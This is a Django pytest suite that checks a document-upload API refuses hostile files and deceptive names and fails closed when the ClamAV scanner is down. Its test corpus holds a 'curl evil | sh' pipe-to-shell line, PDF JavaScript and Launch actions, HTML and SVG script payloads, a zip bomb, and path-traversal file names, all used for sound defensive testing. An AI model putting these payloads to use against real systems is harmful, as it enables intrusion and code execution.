"""A hostile-upload corpus: every file is refused with a 4xx and a Vietnamese message,
and nothing is stored (no Attachment row, no file on disk); the optional ClamAV scan
refuses infected files and fails closed when the scanner is down or silent."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.utils import translation
from rest_framework.test import APIClient

from dossiers import services
from dossiers.documents import REASONS
from dossiers.exceptions import (
    DossierValidationError,
    ScannerUnavailableError,
    UploadTooLargeError,
)
from dossiers.models import Attachment
from dossiers.services import Upload
from tests.dossiers.factories import JPEG_BYTES, PDF_BYTES, PNG_BYTES
from tests.security.fixtures_data import EICAR

pytestmark = pytest.mark.django_db


def _pdf(body: bytes, tail: bytes = b"") -> bytes:
    return b"%PDF-1.7\n" + body + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n" + tail


def _flate_object(payload: bytes) -> bytes:
    stream = zlib.compress(payload)
    return (
        b"5 0 obj<</Type/ObjStm/Filter/FlateDecode/Length %d>>stream\n" % len(stream)
        + stream
        + b"\nendstream endobj"
    )


def _png(width: int, height: int) -> bytes:
    ihdr = struct.pack(">II", width, height) + b"\x08\x06\x00\x00\x00"
    crc = struct.pack(">I", zlib.crc32(b"IHDR" + ihdr))
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + b"IHDR"
        + ihdr
        + crc
        + PNG_BYTES[33:]
    )


def _jpeg(width: int, height: int) -> bytes:
    sof = b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width)
    return (
        JPEG_BYTES[:20]
        + sof
        + b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
        + b"\xff\xd9"
    )


def _zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", b"\0" * (8 * 1024 * 1024))
    return buffer.getvalue()


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
)

#: (case, file name, bytes, reason key of the expected message)
CORPUS: list[tuple[str, str, bytes, str]] = [
    ("eicar", "eicar.pdf", EICAR, "type"),
    ("script renamed .pdf", "to-khai.pdf", b"#!/bin/sh\ncurl evil | sh\n", "type"),
    ("windows executable", "don.pdf", b"MZ\x90\x00" + b"\0" * 200, "type"),
    ("html renamed .pdf", "don.pdf", b"<html><script>alert(1)</script></html>", "type"),
    ("svg", "bieu-do.pdf", SVG, "type"),
    ("svg renamed .png", "anh.png", SVG, "type"),
    ("zip bomb renamed .pdf", "giay-to.pdf", _zip_bomb(), "type"),
    (
        "pdf with appended html",
        "don.pdf",
        _pdf(b"1 0 obj<</Type/Catalog>>endobj", b"<html><script>alert(1)</script>"),
        "polyglot",
    ),
    (
        "pdf with html inside",
        "don.pdf",
        _pdf(b"1 0 obj<</Type/Catalog>>endobj % <script>alert(1)</script>"),
        "polyglot",
    ),
    (
        "pdf with a javascript open action",
        "don.pdf",
        _pdf(
            b"1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"
        ),
        "active_content",
    ),
    (
        "pdf with a launch action",
        "don.pdf",
        _pdf(b"1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj"),
        "active_content",
    ),
    (
        "pdf with an obfuscated javascript name",
        "don.pdf",
        _pdf(b"1 0 obj<</Type/Catalog/AA<</O<</S/J#61vaScript/JS(x)>>>>>>endobj"),
        "active_content",
    ),
    (
        "pdf with javascript hidden in a compressed object stream",
        "don.pdf",
        _pdf(
            b"1 0 obj<</Type/Catalog>>endobj\n"
            + _flate_object(b"<</S/JavaScript/JS(x)>>")
        ),
        "active_content",
    ),
    (
        "pdf with javascript in an uncompressed stream",
        "don.pdf",
        _pdf(
            b"1 0 obj<</Type/ObjStm/Length 24>>stream\n<</S/JavaScript/JS(x)>>\nendstream endobj"
        ),
        "active_content",
    ),
    (
        "pdf whose compressed stream inflates beyond the budget",
        "don.pdf",
        _pdf(
            b"1 0 obj<</Type/Catalog>>endobj\n"
            + _flate_object(b"\0" * (3 * 1024 * 1024))
        ),
        "bomb",
    ),
    (
        "pdf cut before %%EOF",
        "don.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog>>",
        "damaged",
    ),
    (
        "png declaring 100000 x 100000 pixels",
        "anh.png",
        _png(100_000, 100_000),
        "too_many_pixels",
    ),
    (
        "jpeg declaring 65535 x 65535 pixels",
        "anh.jpg",
        _jpeg(65_535, 65_535),
        "too_many_pixels",
    ),
    (
        "jpeg without a frame header",
        "anh.jpg",
        b"\xff\xd8\xff\xe0\x00\x04ab\xff\xd9",
        "damaged",
    ),
]

#: Names built to deceive, with an otherwise acceptable PDF.
HOSTILE_NAMES = [
    ("double extension", "ho-so.pdf.exe"),
    ("rtl override", "hoa-don\u202efdp.exe"),
    ("very long name", "a" * 300 + ".pdf"),
    ("script extension", "trang.html"),
    ("svg extension", "bieu-do.svg"),
]
SERVICE_ONLY_NAMES = [  # Django's multipart parser strips these before our code runs
    ("rtl override keeping .pdf", "anh\u202egpj.pdf"),
    ("nul byte", "to-khai\x00.pdf"),
    ("path traversal", "../../etc/passwd.pdf"),
    ("windows path", "..\\..\\boot.ini.pdf"),
]


def _vietnamese(reason: str, **values) -> str:
    with translation.override("vi"):
        text = str(REASONS[reason]) % values
    with translation.override("en"):
        assert text != str(REASONS[reason]) % values, "message not translated"
    return text


def _nothing_stored() -> None:
    assert not Attachment.objects.exists()
    private = Path(settings.MEDIA_ROOT) / "private"
    assert not private.exists() or not [p for p in private.rglob("*") if p.is_file()]


def _post(dossier, user, name: str, data: bytes):
    client = APIClient()
    client.force_authenticate(user)
    return client.post(
        f"/api/v1/dossiers/{dossier.pk}/documents/",
        {"file": SimpleUploadedFile(name, data)},
        format="multipart",
        HTTP_ACCEPT_LANGUAGE="vi",
    )


@pytest.fixture(autouse=True)
def _small_inflation_budget():
    with override_settings(UPLOAD_MAX_INFLATED_BYTES=2 * 1024 * 1024):
        yield


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [case[1:] for case in CORPUS],
    ids=[case[0] for case in CORPUS],
)
def test_hostile_file_is_refused_by_the_api(make_dossier, actors, name, data, reason):
    response = _post(make_dossier(), actors.owner, name, data)
    assert response.status_code == 400
    pixels = round(settings.UPLOAD_MAX_PIXELS / 1_000_000)
    assert response.json()["file"] == [_vietnamese(reason, pixels=pixels)]
    _nothing_stored()


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [case[1:] for case in CORPUS],
    ids=[case[0] for case in CORPUS],
)
def test_hostile_file_is_refused_by_the_service(
    make_dossier, actors, name, data, reason
):
    with pytest.raises(DossierValidationError) as error:
        services.dossier_attach_document(
            dossier=make_dossier(),
            actor=actors.owner,
            upload=Upload(file=io.BytesIO(data), name=name),
        )
    assert error.value.errors["file"]
    _nothing_stored()


@pytest.mark.parametrize(
    "name", [n for _, n in HOSTILE_NAMES], ids=[i for i, _ in HOSTILE_NAMES]
)
def test_deceptive_name_is_refused_by_the_api(make_dossier, actors, name):
    response = _post(make_dossier(), actors.owner, name, PDF_BYTES)
    assert response.status_code == 400
    message = response.json()["file"][0]
    assert "tên tệp" in message.lower()
    _nothing_stored()


@pytest.mark.parametrize(
    "name",
    [n for _, n in HOSTILE_NAMES + SERVICE_ONLY_NAMES],
    ids=[i for i, _ in HOSTILE_NAMES + SERVICE_ONLY_NAMES],
)
def test_deceptive_name_is_refused_by_the_service(make_dossier, actors, name):
    with pytest.raises(DossierValidationError):
        services.dossier_attach_document(
            dossier=make_dossier(),
            actor=actors.owner,
            upload=Upload(file=io.BytesIO(PDF_BYTES), name=name),
        )
    _nothing_stored()


def test_oversized_file_gives_413_with_a_vietnamese_message(make_dossier, actors):
    with override_settings(UPLOAD_MAX_BYTES=4096):
        response = _post(make_dossier(), actors.owner, "lon.pdf", _pdf(b"0" * 8192))
        with pytest.raises(UploadTooLargeError):
            services.dossier_attach_document(
                dossier=make_dossier(),
                actor=actors.owner,
                upload=Upload(file=io.BytesIO(_pdf(b"0" * 8192)), name="lon.pdf"),
            )
    assert response.status_code == 413
    assert "MB" in response.json()["file"][0]
    assert "Tệp" in response.json()["file"][0]
    _nothing_stored()


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("don.pdf", PDF_BYTES),
        ("anh.jpg", JPEG_BYTES),
        ("anh.png", PNG_BYTES),
        (
            "don.PDF",
            _pdf(b"1 0 obj<</Type/Catalog/OpenAction[3 0 R/FitH null]>>endobj"),
        ),
        (
            "scan",
            _pdf(
                b"1 0 obj<</Type/Catalog>>endobj\n"
                + _flate_object(b"q 1 0 0 1 0 0 cm Q")
            ),
        ),
        ("anh-a4-600dpi.png", _png(4960, 7016)),
        (  # image bytes that happen to spell an active name are not PDF syntax
            "anh-quet.pdf",
            _pdf(
                b"1 0 obj<</Subtype/Image/Filter/DCTDecode/Length 20>>stream\n\xff\xd8/JS <script \x00\nendstream endobj"
            ),
        ),
    ],
)
def test_ordinary_documents_still_pass(make_dossier, actors, name, data):
    response = _post(make_dossier(), actors.owner, name, data)
    assert response.status_code == 201, response.json()
    assert Attachment.objects.count() == 1


def _clamd_settings(server):
    host, port = server.address
    return override_settings(CLAMAV_HOST=host, CLAMAV_PORT=port, CLAMAV_TIMEOUT=2)


def test_clamd_passes_a_clean_file_over_instream(make_dossier, actors, fake_clamd):
    with _clamd_settings(fake_clamd):
        response = _post(make_dossier(), actors.owner, "don.pdf", PDF_BYTES)
    assert response.status_code == 201
    assert fake_clamd.scanned == [PDF_BYTES]


def test_clamd_refuses_an_infected_file(make_dossier, actors, fake_clamd):
    infected = _pdf(b"1 0 obj<</Type/Catalog>>endobj\n% " + EICAR)
    with _clamd_settings(fake_clamd):
        response = _post(make_dossier(), actors.owner, "don.pdf", infected)
        with pytest.raises(DossierValidationError):
            services.dossier_attach_document(
                dossier=make_dossier(),
                actor=actors.owner,
                upload=Upload(file=io.BytesIO(EICAR), name="eicar.pdf"),
            )
    assert response.status_code == 400
    assert response.json()["file"] == [
        _vietnamese("infected", signature="Eicar-Signature")
    ]
    assert len(fake_clamd.scanned) == 2
    _nothing_stored()


def test_clamd_is_reached_over_a_unix_socket(make_dossier, actors, tmp_path):
    import socket as socket_module  # noqa: PLC0415
    import threading  # noqa: PLC0415

    from tests.security.fixtures_data import FakeClamd, _handle  # noqa: PLC0415

    path = str(tmp_path / "clamd.sock")
    listener = socket_module.socket(socket_module.AF_UNIX, socket_module.SOCK_STREAM)
    listener.bind(path)
    listener.listen(1)
    server = FakeClamd(address=("", 0))
    thread = threading.Thread(
        target=lambda: _handle(listener.accept()[0], server), daemon=True
    )
    thread.start()
    with override_settings(CLAMAV_SOCKET=path, CLAMAV_TIMEOUT=2):
        response = _post(make_dossier(), actors.owner, "eicar.pdf", EICAR)
    thread.join(timeout=5)
    listener.close()
    assert response.status_code == 400
    assert "vi-rút" in response.json()["file"][0]
    assert server.scanned == [EICAR]


def test_scanner_down_fails_closed_with_503(make_dossier, actors, closed_port):
    with override_settings(CLAMAV_HOST="127.0.0.1", CLAMAV_PORT=closed_port):
        response = _post(make_dossier(), actors.owner, "don.pdf", PDF_BYTES)
        with pytest.raises(ScannerUnavailableError):
            services.dossier_attach_document(
                dossier=make_dossier(),
                actor=actors.owner,
                upload=Upload(file=io.BytesIO(PDF_BYTES), name="don.pdf"),
            )
    assert response.status_code == 503
    with translation.override("vi"):
        expected = str(ScannerUnavailableError.default_message)
    assert response.json()["detail"] == expected
    _nothing_stored()


def test_scanner_that_never_answers_fails_closed(make_dossier, actors, fake_clamd):
    fake_clamd.silent = True
    host, port = fake_clamd.address
    with override_settings(CLAMAV_HOST=host, CLAMAV_PORT=port, CLAMAV_TIMEOUT=0.3):
        response = _post(make_dossier(), actors.owner, "don.pdf", PDF_BYTES)
    assert response.status_code == 503
    _nothing_stored()
